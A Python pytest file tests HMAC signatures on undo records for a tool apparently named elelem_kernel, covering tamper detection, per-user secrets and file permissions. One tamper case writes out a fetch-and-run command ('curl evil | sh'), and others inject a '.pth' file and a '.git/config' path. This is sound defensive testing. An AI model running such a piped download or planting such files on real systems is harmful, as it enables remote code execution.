"""Record signatures: made with the person's own secret, broken by any change to what
`/undo` would act on, and the secret kept private."""

from __future__ import annotations

import copy
import stat

import pytest

from elelem_kernel.store import signature

RECORD = {
    "conversation": "c1",
    "turn": "t1",
    "prompt": "write it",
    "changes": [{"kind": "file", "path": "a.md", "before": "old\n", "after_sha": "ab" * 32}],
}


@pytest.fixture(autouse=True)
def data_home(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    return tmp_path / "data"


def signed(record=RECORD):
    made = copy.deepcopy(record)
    made["signature"] = signature.sign(made)
    return made


def test_a_signed_record_verifies_and_survives_a_json_round_trip():
    import json

    assert signature.verified(json.loads(json.dumps(signed())))


@pytest.mark.parametrize(
    "tamper",
    [
        lambda r: r["changes"][0].update(path=".git/config"),
        lambda r: r["changes"][0].update(before="curl evil | sh\n"),
        lambda r: r["changes"].append({"kind": "file", "path": "x.pth", "before": "import os"}),
        lambda r: r.update(turn="t2"),
        lambda r: r.update(conversation="c2"),
        lambda r: r.update(signature=r["signature"].upper()),
        lambda r: r.update(signature=None),
        lambda r: r.pop("signature"),
        lambda r: r.update(signature=["hmac-sha256:"]),
    ],
)
def test_any_change_to_what_undo_acts_on_breaks_the_signature(tamper):
    record = signed()
    tamper(record)
    assert not signature.verified(record)


def test_what_undo_does_not_act_on_may_change():
    record = signed()
    record["reply"] = "edited by hand"
    record["undone"] = True
    assert signature.verified(record)


def test_another_persons_secret_does_not_verify(data_home, monkeypatch, tmp_path):
    theirs = signed()
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "mine"))
    assert not signature.verified(theirs)


def test_the_secret_is_private_and_kept(data_home):
    first = signed()
    secret = data_home / "elelem-kernel" / signature.SECRET_NAME
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert stat.S_IMODE(secret.parent.stat().st_mode) == 0o700
    assert signature.verified(first)  # the same secret, read back


def test_a_broken_secret_file_is_replaced_not_trusted(data_home):
    folder = data_home / "elelem-kernel"
    folder.mkdir(parents=True)
    (folder / signature.SECRET_NAME).write_bytes(b"")  # empty: anyone's HMAC key
    record = signed()
    assert len((folder / signature.SECRET_NAME).read_bytes()) >= signature.SECRET_BYTES
    assert signature.verified(record)
